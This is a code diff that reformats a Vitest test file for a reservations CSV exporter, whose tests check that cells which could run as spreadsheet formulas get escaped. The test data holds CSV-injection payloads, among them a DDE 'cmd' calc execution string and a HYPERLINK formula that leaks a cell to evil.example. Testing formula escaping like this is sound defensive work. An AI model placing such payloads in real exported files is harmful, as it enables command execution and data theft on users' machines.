@@ -1,4 +1,5 @@
 import { describe, expect, it } from 'vitest';
+
 import { CSV_COLUMNS, csvField, csvHeader, csvRow } from './reservations-csv';
 
 describe('reservations CSV', () => {
@@ -16,7 +17,7 @@ describe('reservations CSV', () => {
   it('prefixes every cell a spreadsheet could run as a formula, whatever follows its first character', () => {
     const attacks = [
       '=1+1',
-      '+1+cmd|\' /C calc\'!A0',
+      "+1+cmd|' /C calc'!A0",
       '-2+3+HYPERLINK("https://evil.example/?leak="&H2,"Details")',
       '@SUM(A1:A9)',
       '\t=1+1',
@@ -69,6 +70,8 @@ describe('reservations CSV', () => {
       },
       'Casa Alfama',
     );
-    expect(line).toBe('3a4a3700-001d-5892-8142-f043d9bb21c1,confirmed,2026-12-01,19:30,4,Inês,"Silva, Jr",ines@example.com,,Casa Alfama,,,pt-PT,,,\r\n');
+    expect(line).toBe(
+      '3a4a3700-001d-5892-8142-f043d9bb21c1,confirmed,2026-12-01,19:30,4,Inês,"Silva, Jr",ines@example.com,,Casa Alfama,,,pt-PT,,,\r\n',
+    );
   });
 });
